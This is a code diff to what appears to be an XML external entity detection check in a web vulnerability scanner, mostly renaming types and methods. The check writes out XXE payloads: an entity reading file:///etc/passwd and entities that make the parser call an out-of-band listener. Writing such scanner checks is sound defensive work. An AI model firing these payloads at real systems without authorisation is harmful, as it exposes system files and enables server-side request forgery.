@@ -34,16 +34,17 @@ var (
 		"document.", "CWE-776", finding.Low)
 )
 
-// Check is the check.
-var Check = &activescan.Check{ID: "xxe", Rules: []*finding.Rule{external, internal}, Called: []*finding.Rule{external},
-	Profile: scan.Safe, Request: request}
+// Rule is the check.
+var Rule = &activescan.Rule{ID: "xxe", FindingRules: []*finding.Rule{external, internal},
+	OASTRules: []*finding.Rule{external},
+	Profile:   scan.Safe, ScanOperation: request}
 
 // maxPoints bounds the elements that are tried.
 const maxPoints = 5
 
 var passwd = lazyregexp.New(`root:[^:\n]{0,100}:0:0:`)
 
-func request(t *activescan.Trial) error {
+func request(t *activescan.OperationScan) error {
 	if t.Request.Body.Kind != message.XML {
 		if err := included(t); err != nil {
 			return err
@@ -80,7 +81,7 @@ func elements(r *message.Request) []message.Point {
 }
 
 // values tries the parameters whose value is a document of XML.
-func values(t *activescan.Trial) error {
+func values(t *activescan.OperationScan) error {
 	for _, at := range t.Request.Points() {
 		if at.Names() {
 			continue
@@ -111,13 +112,13 @@ var parsed = lazyregexp.New(`(?i)start tag expected|simplexml_load_string|DOMDoc
 
 // named tries a parameter whose value is no document, but whose name, or whose answer,
 // says that it should be one.
-func named(t *activescan.Trial, at message.Point) (bool, error) {
+func named(t *activescan.OperationScan, at message.Point) (bool, error) {
 	if at.In != message.InQuery && at.In != message.InForm {
 		return false, nil
 	}
 	if !speaks.MatchString(at.Name) {
-		first, err := t.First()
-		if err != nil || !first.Shows(parsed) {
+		first, err := t.FirstResponse()
+		if err != nil || !first.MatchesBody(parsed) {
 			return false, err
 		}
 	}
@@ -127,7 +128,7 @@ func named(t *activescan.Trial, at message.Point) (bool, error) {
 }
 
 // files tries the fields of a form that take a file, with documents of XML.
-func files(t *activescan.Trial) error {
+func files(t *activescan.OperationScan) error {
 	if !t.Target.Profile.Allows(scan.Standard) {
 		return nil // files stay where they are sent
 	}
@@ -135,7 +136,7 @@ func files(t *activescan.Trial) error {
 		if p.File == "" {
 			continue
 		}
-		file := message.Param{Name: p.Name, File: t.Random(12) + ".xml", Type: "text/xml"}
+		file := message.Param{Name: p.Name, File: t.RandomLetters(12) + ".xml", Type: "text/xml"}
 		at := message.Point{In: message.InMultipart, Name: p.Name, Index: i, Value: p.Value, Type: "file"}
 		if found, err := point(t, place{at, func(entities, text string) *message.Request {
 			r := t.Request.Clone()
@@ -148,7 +149,7 @@ func files(t *activescan.Trial) error {
 		for _, k := range kinds {
 			if called, err := call(t, place{at, func(entities, text string) *message.Request {
 				r := t.Request.Clone()
-				r.Body.Params[i] = message.Param{Name: p.Name, File: t.Random(12) + k.ending, Type: k.media,
+				r.Body.Params[i] = message.Param{Name: p.Name, File: t.RandomLetters(12) + k.ending, Type: k.media,
 					Value: k.write(entities, text)}
 				return r
 			}}); called || err != nil {
@@ -168,8 +169,9 @@ type place struct {
 
 // document returns the request with declarations of entities, and a text of entities in
 // the place of the element's.
-func document(t *activescan.Trial, of *message.Request, at message.Point, entities, text string) *message.Request {
-	mark := t.Random(12)
+func document(t *activescan.OperationScan, of *message.Request, at message.Point, entities,
+	text string) *message.Request {
+	mark := t.RandomLetters(12)
 	r := of.With(at, mark)
 	body := strings.Replace(string(r.Body.Text), mark, text, 1)
 	declaration := ""
@@ -183,17 +185,17 @@ func document(t *activescan.Trial, of *message.Request, at message.Point, entiti
 	return r
 }
 
-func point(t *activescan.Trial, p place) (found bool, err error) {
-	one, two := t.Random(8), t.Random(8)
+func point(t *activescan.OperationScan, p place) (found bool, err error) {
+	one, two := t.RandomLetters(8), t.RandomLetters(8)
 	r := p.document(`<!ENTITY a "`+one+`"><!ENTITY b "`+two+`">`, "&a;&b;")
 	resp, err := t.Send(r)
 	if err != nil {
 		return false, err
 	}
 	expanded := strings.Contains(resp.Text(), one+two)
-	flaw := activescan.Flaw{Rule: internal, Point: &p.at, Request: r, Payload: "&a;&b;",
-		Answers: []*message.Response{resp},
-		Notes:   []string{"two entities of the document"}}
+	flaw := activescan.Alert{Rule: internal, Point: &p.at, Request: r, Payload: "&a;&b;",
+		Responses:     []*message.Response{resp},
+		ResponseNotes: []string{"two entities of the document"}}
 	if expanded {
 		flaw.Proof = []string{"Two entities stand beside each other in the document; the answer holds what they " +
 			"stand for, joined."}
@@ -215,25 +217,27 @@ func point(t *activescan.Trial, p place) (found bool, err error) {
 		}
 		if passwd.MatchString(html.UnescapeString(resp.Text())) {
 			flaw.Rule, flaw.Request, flaw.Payload = external, r, `<!ENTITY f SYSTEM "file:///etc/passwd">`
-			flaw.Answers, flaw.Notes = append(flaw.Answers, resp), append(flaw.Notes, "an entity that is a file of "+
-				"the system")
+			flaw.Responses, flaw.ResponseNotes = append(flaw.Responses, resp),
+				append(flaw.ResponseNotes, "an entity that is a file of "+
+					"the system")
 			flaw.Proof = append(flaw.Proof, "An entity that is the file /etc/passwd is answered with its content.")
 		}
 	}
-	t.Flaw(flaw)
+	t.RaiseAlert(flaw)
 	return true, nil
 }
 
 // call makes the parser ask our listener: with an entity of the text, and with one of the
 // type definition, which is read even where the text's are not expanded.
-func call(t *activescan.Trial, p place) (bool, error) {
-	return t.Lure(func(bait func() activescan.Bait) (*message.Request, []activescan.Hook) {
-		b := []activescan.Bait{bait(), bait()}
+func call(t *activescan.OperationScan, p place) (bool, error) {
+	return t.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request, []activescan.ExpectedInteraction) {
+		b := []activescan.OASTPayload{bait(), bait()}
 		general, parameter := `<!ENTITY c SYSTEM "`+b[0].URL+`">`, `<!ENTITY % d SYSTEM "`+b[1].URL+`">`
-		hook := activescan.Hook{Rule: external, At: &p.at, Fetch: true, Proof: "An entity of the document is at an " +
-			"address of a listener; the parser read it."}
+		hook := activescan.ExpectedInteraction{Rule: external, Point: &p.at, RequiresHTTP: true,
+			Proof: "An entity of the document is at an " +
+				"address of a listener; the parser read it."}
 		one, two := hook, hook
-		one.Bait, one.Payload, two.Bait, two.Payload = b[0], general, b[1], parameter
-		return p.document(general+parameter+"%d;", "&c;"), []activescan.Hook{two, one}
+		one.OASTPayload, one.Payload, two.OASTPayload, two.Payload = b[0], general, b[1], parameter
+		return p.document(general+parameter+"%d;", "&c;"), []activescan.ExpectedInteraction{two, one}
 	})
 }
